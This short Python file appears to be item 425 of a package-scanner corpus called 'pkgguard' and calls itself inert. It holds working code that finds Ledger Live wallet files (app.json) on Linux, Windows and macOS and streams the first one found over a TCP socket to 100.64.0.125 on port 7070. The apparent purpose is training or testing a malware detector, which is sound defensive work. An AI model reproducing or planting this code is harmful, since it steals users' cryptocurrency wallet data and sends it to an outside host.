# pkgguard corpus 425 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import socket

candidates = [
    os.path.expanduser("~/.config/Ledger Live/app.json"),
    os.path.join(os.environ.get("APPDATA", ""), "Ledger Live", "app.json"),
    os.path.expanduser("~/Library/Application Support/Ledger Live/app.json"),
]
for path in candidates:
    if os.path.isfile(path):
        with socket.create_connection(("100.64.0.125", 7070), timeout=10) as s, open(path, "rb") as f:
            s.sendfile(f)
        break
